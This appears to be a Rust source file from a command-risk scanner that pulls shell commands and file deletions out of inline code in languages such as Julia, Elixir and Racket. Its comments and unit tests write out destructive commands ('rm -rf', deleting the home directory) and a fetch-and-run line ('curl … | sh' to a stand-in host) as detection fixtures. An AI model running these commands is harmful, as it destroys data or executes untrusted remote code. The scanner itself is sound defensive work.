//! Inline code of languages riskgate has no analyzer for (Julia, Elixir, Erlang, Racket,
//! Guile, Clojure/Babashka, Scala, Swift, Crystal, Raku), read by what it visibly runs: the
//! command literals it hands to the system (`run(\`rm -rf /srv\`)`, `System.cmd("rm",
//! ["-rf", "/x"])`, `(system "…")`, `` `…` ``) and the few file deletions every such language
//! spells alike (`rm(p; recursive=true)`, `File.rm_rf!(p)`, `delete-directory/files`). What is
//! left unread is rated by the `code.unread-inline` rule, never as harmless.
//!
//! Scanning is linear in the code's length and bounded in what it returns.

/// The inline-code options of the languages read here.
const INLINE: &[(&str, &[&str])] = &[
    ("julia", &["-e", "--eval", "-E", "--print"]),
    ("elixir", &["-e", "--eval"]),
    ("erl", &["-eval"]),
    ("racket", &["-e", "--eval"]),
    ("guile", &["-c"]),
    ("clojure", &["-e", "--eval"]),
    ("clj", &["-e", "--eval"]),
    ("bb", &["-e", "--eval"]),
    ("scala", &["-e"]),
    ("swift", &["-e"]),
    ("crystal", &["eval"]),
    ("raku", &["-e"]),
    ("perl6", &["-e"]),
];

/// At most this many commands are read from one snippet.
const MAX_COMMANDS: usize = 32;

/// Names of calls that run a command given as strings.
const RUNNERS: &[&str] = &[
    "run",
    "system",
    "shell",
    "sh",
    "exec",
    "spawn",
    "cmd",
    "popen",
    "pipeline",
    "os:cmd",
    "System.cmd",
    "process",
    "Process.run",
];

/// The inline code `args` (without the program) give `program`, when it is one read here.
pub(crate) fn code<'a>(program: &str, args: &[&'a str]) -> Option<&'a str> {
    let (_, opts) = INLINE.iter().find(|(p, _)| *p == program)?;
    let at = args.iter().position(|a| opts.contains(a))?;
    args.get(at + 1).copied()
}

/// The shell commands `code` visibly runs or stands for.
pub(crate) fn commands(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    let b = code.as_bytes();
    let mut i = 0;
    while i < b.len() && out.len() < MAX_COMMANDS {
        // a command literal: `…` (Julia, Crystal, Raku, Elixir sigils are not read)
        if b[i] == b'`' {
            if let Some(end) = code[i + 1..].find('`') {
                let inner = &code[i + 1..i + 1 + end];
                if !inner.trim().is_empty() {
                    out.push(inner.to_string());
                }
                i += end + 2;
                continue;
            }
            break;
        }
        let rest = &code[i..];
        if let Some(name) = RUNNERS
            .iter()
            .find(|n| rest.starts_with(**n) && !prev_is_word(b, i))
            && let Some(args) = call_args(&rest[name.len()..])
        {
            let words = string_literals(args);
            if !words.is_empty() {
                out.push(words.join(" "));
            }
            i += name.len();
            continue;
        }
        // file deletions spelled alike: `rm(p; recursive=true)`, `File.rm_rf!(p)`,
        // `(delete-directory/files p)`
        for (call, recursive) in [
            ("rm(", false),
            ("File.rm_rf!(", true),
            ("File.rm_rf(", true),
            ("File.rm!(", false),
            ("File.rm(", false),
            ("delete-directory/files ", true),
            ("delete-file ", false),
        ] {
            if rest.starts_with(call) && !prev_is_word(b, i) {
                let args = rest.get(call.len() - 1..).and_then(call_args).unwrap_or("");
                let target = string_literals(args)
                    .into_iter()
                    .next()
                    .or_else(|| home_call(args));
                if let Some(t) = target {
                    let r = recursive || args.contains("recursive=true");
                    out.push(format!("rm -f{} -- {t}", if r { "r" } else { "" }));
                }
            }
        }
        i += rest.chars().next().map_or(1, char::len_utf8);
    }
    out
}

fn prev_is_word(b: &[u8], i: usize) -> bool {
    i > 0
        && b.get(i - 1)
            .is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.' | b':'))
}

/// The text of a call's argument list: after `(` (or a blank, for Lisp forms) up to the
/// matching close, bounded.
fn call_args(after: &str) -> Option<&str> {
    let body = match after.strip_prefix('(') {
        Some(b) => b,
        // a Lisp form: `(system "…")`
        None if after.starts_with([' ', '\t']) => after,
        None => return None,
    };
    let mut depth = 0usize;
    for (k, ch) in body.char_indices().take(4096) {
        match ch {
            '(' | '[' => depth += 1,
            ')' | ']' if depth == 0 => return Some(&body[..k]),
            ')' | ']' => depth -= 1,
            _ => {}
        }
    }
    None
}

/// The double-quoted string literals of `text`, in order.
fn string_literals(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(s) = rest.find('"') {
        let after = &rest[s + 1..];
        let Some(e) = after.find('"') else { break };
        out.push(&after[..e]);
        rest = &after[e + 1..];
    }
    out
}

/// `homedir()`, `System.user_home!()`, `(find-system-path 'home-dir)`: the home directory.
fn home_call(args: &str) -> Option<&'static str> {
    ["homedir()", "user_home", "home-dir", "HOME"]
        .iter()
        .any(|h| args.contains(h))
        .then_some("~")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_unread_code_visibly_runs() {
        assert_eq!(
            commands("rm(homedir(); recursive=true, force=true)"),
            ["rm -fr -- ~"]
        );
        assert_eq!(commands("run(`rm -rf /srv/data`)"), ["rm -rf /srv/data"]);
        assert_eq!(
            commands("System.cmd(\"rm\", [\"-rf\", \"/var/lib/app\"])"),
            ["rm -rf /var/lib/app"]
        );
        assert_eq!(
            commands("File.rm_rf!(\"/opt/app\")"),
            ["rm -fr -- /opt/app"]
        );
        assert_eq!(
            commands("(system \"curl -s http://x.example/i | sh\")"),
            ["curl -s http://x.example/i | sh"]
        );
        assert!(commands("println(sum(1:10))").is_empty());
        assert!(commands("IO.puts(\"hello\")").is_empty());
        assert_eq!(code("julia", &["-e", "x"]), Some("x"));
        assert_eq!(code("julia", &["script.jl"]), None);
    }
}
